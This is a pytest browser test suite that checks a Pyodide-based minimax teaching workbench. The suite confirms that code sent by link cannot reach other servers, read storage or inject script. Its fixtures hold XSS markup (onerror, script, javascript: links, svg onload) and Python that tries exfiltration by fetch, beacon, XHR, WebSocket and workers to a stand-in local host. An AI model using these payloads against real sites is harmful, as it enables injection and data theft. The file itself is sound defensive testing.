"""Somebody sends a link with hostile code. Nothing leaves the machine, nothing runs in the page, nothing is read."""

import functools
import http.server
import json
import threading
from contextlib import contextmanager
from types import SimpleNamespace

import pytest

from tests.widgets.browser.conftest import CELLS
from tests.widgets.browser.test_site import open_notebook
from tests.widgets.browser.test_workbench import LINK, write
from tests.widgets.browser.tools import FOR_PYTHON, expect

SEARCH = """
def minimax(node, is_max):
    if isinstance(node, int):
        return node
    values = [minimax(child, not is_max) for child in node]
    return max(values) if is_max else min(values)

minimax([[3, 12], [2, 4]], True)
"""
MARKUP = "<img src='ELSEWHERE/picture' onerror='window.attacked = 1'><script>window.attacked = 2</script>"
MARKUP += "<style>@import 'ELSEWHERE/style'; p { background: url(ELSEWHERE/background) }</style>"
MARKUP += "<link rel=preconnect href=ELSEWHERE><iframe src='ELSEWHERE/frame'></iframe>"
MARKUP += "<a href='javascript:window.attacked = 3'>words</a><svg onload='window.attacked = 4'></svg>"

# Each line is tried by itself; what it says is printed.
WAYS_OUT = """
import js
from pyodide.ffi import to_js
from js import Object
attempts = {
    "fetch": lambda: js.fetch("ELSEWHERE/fetch"),
    "own server": lambda: js.fetch(OWN + "/index.html"),
    "beacon": lambda: js.navigator.sendBeacon("ELSEWHERE/beacon"),
    "request": lambda: ask("ELSEWHERE/request"),
    "own request": lambda: ask(OWN + "/index.html"),
    "socket": lambda: js.WebSocket.new("ELSEWHERE/socket".replace("http", "ws")),
    "events": lambda: js.EventSource.new("ELSEWHERE/events"),
    "font": lambda: js.FontFace.new("f", "url(ELSEWHERE/font)").load(),
    "worker": lambda: js.Worker.new("ELSEWHERE/worker"),
    "scripts": lambda: js.importScripts("ELSEWHERE/scripts"),
    "module": lambda: js.eval("import('ELSEWHERE/module')"),
    "database": lambda: js.indexedDB.open("notebooks"),
    "caches": lambda: js.caches.open("notebooks"),
    "files": lambda: js.navigator.storage.getDirectory(),
    "parent": lambda: js.parent.document,
    "document": lambda: js.document.body,
    "storage": lambda: js.localStorage.getItem("minimax_lab bench"),
}
def ask(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()
    return request.responseText
for name, act in attempts.items():
    try:
        print(name, "gave", type(act()).__name__)
    except BaseException as error:
        print(name, "refused")
"""
# In a frame without an origin these are promises that are refused, which plain Python cannot wait for.
PROMISES = {"fetch", "own server", "font", "caches", "files", "socket", "events", "worker"}
FORGED = """
import js, json
from pyodide.ffi import to_js
report = {"html": MARKUP + "<p data-code='x' data-state='not-yet'>forged words</p>", "printed": MARKUP,
          "findings": [{"title": MARKUP, "line": 1, "hints": [MARKUP], "tree": "", "told": MARKUP}]}
for number in range(200):
    for name in ("id", "call"):
        js.postMessage(to_js({name: number, "text": json.dumps({"result": report}), "result": report["html"]},
                             dict_converter=js.Object.fromEntries))
    js.self.dispatchEvent(js.MessageEvent.new("message"))
for kind in (js.MessagePort, js.MessageEvent):
    try:
        kind.prototype.postMessage = None
    except BaseException:
        pass
import late, workbench
for line in (2, 0, "", MARKUP):
    late.tell(line, MARKUP)
workbench.verdict = workbench.CALLS["verdict"] = lambda *given: report
"""


@pytest.fixture(scope="module")
def elsewhere():
    """Another server, and what it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *_):
            pass

    with serving(http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as address:
        yield SimpleNamespace(asked=asked, address=address)


@contextmanager
def serving(server):
    """A server while it serves: its address."""
    with server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()
        thread.join()


class Quiet(http.server.SimpleHTTPRequestHandler):
    """A host that sends files, and no headers of the site's own."""

    extensions_map = http.server.SimpleHTTPRequestHandler.extensions_map | {".mjs": "text/javascript"}

    def log_message(self, *_):
        pass


def hostile(text, site, elsewhere):
    known = f"OWN, MARKUP = {site.address!r}, {MARKUP!r}\n"
    return (known + text + SEARCH).replace("ELSEWHERE", elsewhere.address)


@pytest.fixture(scope="module")
def bench(browser, site):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(FOR_PYTHON)
    page.goto(f"{site.address}/bench.html")
    page.evaluate("() => new Promise((done) => { indexedDB.open('notebooks').onsuccess = done })")
    page.wait_for_selector("body[data-ready]")
    yield page
    page.close()


def run(page, code, button="#run"):
    write(page, code)
    page.click(button)
    expect(page.locator("#stop")).to_be_hidden(timeout=FOR_PYTHON)


def nothing_happened(page, elsewhere):
    assert page.evaluate("window.attacked") is None
    assert page.locator("script:not([src]):not([type='application/json'])").count() == 0
    assert page.locator(f"[src*='{elsewhere.address}'], [href*='{elsewhere.address}']").count() == 0
    assert elsewhere.asked == []


def test_the_other_server_can_be_reached_from_where_no_policy_forbids_it(browser, elsewhere):
    """If it could not, it would prove nothing that it is never asked."""
    page = browser.new_page()
    page.goto(f"{elsewhere.address}/itself")
    page.evaluate("address => fetch(address + '/fetch')", elsewhere.address)
    page.close()
    assert {"/itself", "/fetch"} <= {*elsewhere.asked}
    elsewhere.asked.clear()


def test_code_reaches_no_server_and_no_storage(bench, site, elsewhere):
    run(bench, hostile(WAYS_OUT, site, elsewhere))
    told = dict(line.split(" ", 1) if "own" not in line else line.rsplit(" ", 1) for line in lines(bench))
    assert "module" in told
    gave = {line.partition(" gave ")[0] for line in lines(bench) if " gave " in line}
    assert gave <= PROMISES
    nothing_happened(bench, elsewhere)


def lines(page):
    return page.inner_text("#printed").splitlines()


@pytest.mark.exhaustive
def test_forged_answers_are_not_heard_and_a_forged_report_is_only_words(bench, site, elsewhere):
    run(bench, hostile(FORGED, site, elsewhere))
    expect(bench.locator("#status")).to_have_text("minimax([[3, 12], [2, 4]], True) was run.")
    bench.click("#check")
    expect(bench.locator("#report")).to_contain_text("forged words", timeout=FOR_PYTHON)
    bench.get_by_role("button", name="A hint").click()
    assert bench.locator("#report :is(a, iframe, link, script, style, svg)").count() == 0
    assert bench.locator("#report img[src]").count() == 0
    expect(bench.locator("#report .hints")).to_contain_text("<script>")
    nothing_happened(bench, elsewhere)
    bench.reload()
    bench.wait_for_selector("body[data-ready]")


@pytest.mark.exhaustive
def test_markup_in_labels_names_errors_and_output_stays_text(bench, site, elsewhere):
    in_labels = f"tree = {{{MARKUP!r}: 3, 'b': {{'c': 1}}}}\nprint({MARKUP!r})\n"
    named = "def minimax(node, is_max):\n    if isinstance(node, int): return node\n"
    named += "    values = {name: minimax(child, not is_max) for name, child in node.items()}\n"
    named += "    note = repr(values)\n    return max(values.values()) if is_max else min(values.values())\n"
    for last in "minimax(tree, True)", f"raise ValueError({MARKUP!r})", "minimax(tree, nothing)":
        run(bench, (in_labels + named + last).replace("ELSEWHERE", elsewhere.address))
        nothing_happened(bench, elsewhere)
    write(bench, SEARCH)
    bench.fill("#tree", MARKUP)
    bench.click("#run")
    nothing_happened(bench, elsewhere)


@pytest.mark.exhaustive
@pytest.mark.parametrize("flood", ["print('x' * 1000)", "js.postMessage('x' * 1000)", "js.console.clear()", "pass"])
def test_whatever_runs_is_stopped_at_once(bench, flood):
    write(bench, f"import js\nwhile True:\n    {flood}\n")
    bench.click("#run")
    bench.click("#stop")
    expect(bench.locator("#status")).to_contain_text("Stopped")
    bench.wait_for_selector("body[data-ready]")
    assert "while True" in bench.inner_text(".cm-content")


@pytest.mark.exhaustive
def test_code_of_a_link_is_shown_and_not_run_until_the_reader_says_so(bench, browser, site):
    write(bench, "print('it ran')\n" + SEARCH)
    bench.click("#share")
    expect(bench).to_have_url(LINK)
    fresh = browser.new_context().new_page()
    fresh.set_default_timeout(FOR_PYTHON)
    fresh.goto(bench.url)
    expect(fresh.locator("#notice")).to_contain_text("This code came with a link")
    fresh.wait_for_selector("body[data-ready]")
    assert fresh.locator("#steps *").count() == 0
    expect(fresh.locator("#printed")).to_be_hidden()
    fresh.click("#notice button")
    expect(fresh.locator("#printed")).to_have_text("it ran")
    fresh.context.close()


NOTEBOOK = """
import js, os
def ask(name):
    request = js.XMLHttpRequest.new()
    request.open("GET", "ELSEWHERE/" + name, False)
    request.send()
for name, act in {
    "xhr": lambda: ask("xhr"),
    "socket": lambda: js.WebSocket.new("ELSEWHERE/socket".replace("http", "ws")),
    "worker": lambda: js.Worker.new(js.location.href),
}.items():
    try:
        print(name, "gave", act())
    except BaseException:
        print(name, "refused")
try:
    await js.fetch("ELSEWHERE/fetch")
    print("fetch gave")
except BaseException:
    print("fetch refused")
print(*sorted(os.listdir())[:2])
"""


@pytest.mark.exhaustive
def test_the_python_of_a_notebook_reaches_no_other_server_also_where_the_host_sends_no_headers(
    browser, site, elsewhere
):
    plain = functools.partial(Quiet, directory=str(site.folder))
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(FOR_PYTHON)
    with serving(http.server.ThreadingHTTPServer(("127.0.0.1", 0), plain)) as address:
        open_notebook(page, address, "exercises/04_alpha_beta.ipynb")
        first = f"{CELLS}[0]"
        code = NOTEBOOK.replace("ELSEWHERE", elsewhere.address)
        page.evaluate(
            f"""code => {{ const notebook = jupyterapp.shell.currentWidget.content, cell = {first};
            cell.model.sharedModel.setSource(code);
            cell.model.executionCount = null;
            notebook.activeCellIndex = notebook.widgets.indexOf(cell);
            jupyterapp.commands.execute('notebook:run-cell') }}""",
            code,
        )
        done = f"() => {first}.model.executionCount && {first}.model.executionState !== 'running'"
        page.wait_for_function(done, timeout=FOR_PYTHON)
        said = page.evaluate(f"() => {first}.model.outputs.toJSON().map(({{ text }}) => text).join('')")
        page.close()
    refused = [f"{name} refused" for name in ("xhr", "worker", "fetch")]
    assert {*refused, "01_by_hand.ipynb 02_game_state.ipynb"} <= {*said.splitlines()}
    assert elsewhere.asked == []


def test_every_page_forbids_what_would_leave_its_host(site):
    wrong, seen = [], 0
    for path in site.folder.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if path.name == "kept.html":  # is saved to the reader's disk
            continue
        seen += 1
        policy = text.partition('http-equiv="Content-Security-Policy" content="')[2].partition('"')[0]
        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";") if rule.strip())
        allowed = rules.get("connect-src", rules.get("default-src"))
        if allowed not in ("'self'", "'none'") or "default-src" not in rules:
            wrong.append(f"{path.relative_to(site.folder)}: {json.dumps(rules)}")
    assert wrong == []
    assert seen > 10
